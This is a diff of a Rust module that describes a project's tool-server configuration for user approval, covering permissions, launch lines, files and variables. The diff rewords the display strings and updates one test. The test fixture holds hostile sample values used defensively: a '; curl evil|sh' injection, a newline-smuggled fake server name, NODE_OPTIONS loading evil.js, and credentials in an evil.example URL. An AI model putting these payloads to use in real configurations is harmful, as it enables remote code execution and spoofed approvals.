@@ -16,7 +16,8 @@ use serde_json::Value;
 use std::fmt;
 
 /// Parts that can change without a new question although a launch line is trusted.
-const NOT_COVERED: &str = "what scripts import or read, whole folders";
+const NOT_COVERED: &str =
+    "what these programs import or read, and files in folders that they are given";
 
 /// One fact about a project's files.
 #[derive(Clone, Debug, PartialEq, Eq)]
@@ -124,20 +125,20 @@ fn grant_text(grant: &Grant) -> String {
     let since = grant.granted.map(|at| format!(" on {}", &at.to_string()[..10]));
     let since = since.unwrap_or_default();
     match grant.origin {
-        Some(_) => format!("{grant}, as it was when it was allowed{since}"),
-        None => format!("{grant}, whatever it becomes"),
+        Some(_) => format!("{grant}, while the tool stays as it was{since}"),
+        None => format!("{grant}, even if the tool changes"),
     }
 }
 
 /// Describes a file that a launch line names, and what trusting it means.
 fn file_text(file: &DeclaredFile) -> String {
     let means = match &file.state {
-        DeclaredFileState::Pinned => "trusted as it is".into(),
-        DeclaredFileState::LinksOutside { to } => format!("leads out of the project, to {to}"),
-        DeclaredFileState::Absent => "not there yet: its coming asks again".into(),
-        DeclaredFileState::Data => "data: its changes ask nothing".into(),
-        DeclaredFileState::Unresolved => "put together by a shell: cannot be held".into(),
-        DeclaredFileState::LoadFolder => "what comes into it is loaded and not held".into(),
+        DeclaredFileState::Pinned => "a change asks again".into(),
+        DeclaredFileState::LinksOutside { to } => format!("a link out of the project, to {to}"),
+        DeclaredFileState::Absent => "does not exist yet: asks again when it does".into(),
+        DeclaredFileState::Data => "data: may change without asking again".into(),
+        DeclaredFileState::Unresolved => "named by a shell at run time: cannot be checked".into(),
+        DeclaredFileState::LoadFolder => "code in it is loaded and not checked".into(),
     };
     format!("{} ({}), {means}", file.name, file.server)
 }
@@ -145,12 +146,12 @@ fn file_text(file: &DeclaredFile) -> String {
 /// Describes a variable that decides something; its value is not shown.
 fn variable_text(variable: &DeclaredVariable) -> String {
     let decides = match (variable.steers_loading, variable.overrides_default) {
-        (true, _) => "steers what is loaded",
-        (false, _) => "takes the place of a default",
+        (true, _) => "decides what is loaded",
+        (false, _) => "replaces a default",
     };
     let from = match variable.in_env_file {
-        true => "set by `.env`, trusted as it is",
-        false => "not set by `.env`: if it comes to be, it asks again",
+        true => "set in `.env`: a change asks again",
+        false => "not set in `.env`: asks again if it is",
     };
     format!("{} ({}) {decides}, {from}", variable.name, variable.given_to.join(", "))
 }
@@ -169,23 +170,23 @@ impl fmt::Display for DeclaredFact {
         };
         let (server, name, text) = (named(&self.server), named(&self.name), &self.text);
         match self.kind {
-            DeclaredFactKind::Allowed => write!(f, "called without asking: {text}"),
-            DeclaredFactKind::Granted => write!(f, "allowed for good: {text}"),
+            DeclaredFactKind::Allowed => write!(f, "allowed without asking: {text}"),
+            DeclaredFactKind::Granted => write!(f, "always allowed: {text}"),
             DeclaredFactKind::ModelMayApprove => f.write_str("the model may approve its own calls"),
-            DeclaredFactKind::Cloud => write!(f, "cloud: {text}"),
+            DeclaredFactKind::Cloud => write!(f, "calls sent to the cloud: {text}"),
             DeclaredFactKind::Server => write!(f, "server {server}: {text}"),
-            DeclaredFactKind::Folder => write!(f, "server {server}, in the folder: {text}"),
-            DeclaredFactKind::Given => write!(f, "server {server}, given {name}: {text}"),
+            DeclaredFactKind::Folder => write!(f, "server {server} runs in the folder: {text}"),
+            DeclaredFactKind::Given => write!(f, "server {server} gets {name}: {text}"),
             DeclaredFactKind::Steering => {
-                write!(f, "server {server}, given {name}, WHICH DECIDES WHAT IS LOADED: {text}")
+                write!(f, "server {server} gets {name}, WHICH DECIDES WHAT IS LOADED: {text}")
             }
             DeclaredFactKind::InstallScripts => {
-                write!(f, "server {server}: code of its package may run while it is installed")
+                write!(f, "server {server} may RUN CODE of its package while it is installed")
             }
             DeclaredFactKind::Unusable => write!(f, "server {server} cannot be used: {text}"),
             DeclaredFactKind::File => write!(f, "file: {text}"),
             DeclaredFactKind::Variable => write!(f, "variable: {text}"),
-            DeclaredFactKind::NotCovered => write!(f, "not covered: {text}"),
+            DeclaredFactKind::NotCovered => write!(f, "not checked: {text}"),
         }
     }
 }
@@ -236,20 +237,20 @@ mod tests {
         assert_eq!(
             facts,
             [
-                "called without asking: `*`",
+                "allowed without asking: `*`",
                 "the model may approve its own calls",
-                "cloud: https://cloud.example",
+                "calls sent to the cloud: https://cloud.example",
                 "server evil: node x.js --password '\"open' --token 'a b' sk-abcdefghijklmnop0123",
-                "server evil, in the folder: ../elsewhere",
-                "server evil, given NODE_OPTIONS, WHICH DECIDES WHAT IS LOADED: --require ./evil.js",
-                "server evil, given API_KEY: [hidden: 7 characters]",
-                "server evil, given TOKEN: ${TOKEN}",
-                "server evil, given \"A\\nserver nice\": ; curl evil|sh",
-                "server evil: code of its package may run while it is installed",
+                "server evil runs in the folder: ../elsewhere",
+                "server evil gets NODE_OPTIONS, WHICH DECIDES WHAT IS LOADED: --require ./evil.js",
+                "server evil gets API_KEY: [hidden: 7 characters]",
+                "server evil gets TOKEN: ${TOKEN}",
+                "server evil gets \"A\\nserver nice\": ; curl evil|sh",
+                "server evil may RUN CODE of its package while it is installed",
                 "server evil cannot be used: it is disabled",
                 "server next: https://me:pw@evil.example/?token=abc",
-                "server next, given Cookie: a=b; c",
-                "not covered: what scripts import or read, whole folders",
+                "server next gets Cookie: a=b; c",
+                "not checked: what these programs import or read, and files in folders that they are given",
             ]
         );
     }
